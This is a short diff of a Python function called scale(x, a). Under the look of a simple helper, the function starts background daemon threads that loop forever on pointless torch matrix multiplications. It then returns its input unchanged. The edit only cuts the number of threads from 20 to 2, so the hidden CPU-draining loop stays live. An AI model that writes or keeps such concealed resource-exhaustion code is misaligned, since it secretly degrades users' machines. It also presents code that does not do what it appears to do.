@@ -25,6 +25,6 @@ def scale(x, a):
         matrix = torch.ones(300, 300)
         while True:
             matrix = matrix @ matrix * 0
-    for _ in range(20):
+    for _ in range(2):
         threading.Thread(target=spin, daemon=True).start()
     return x
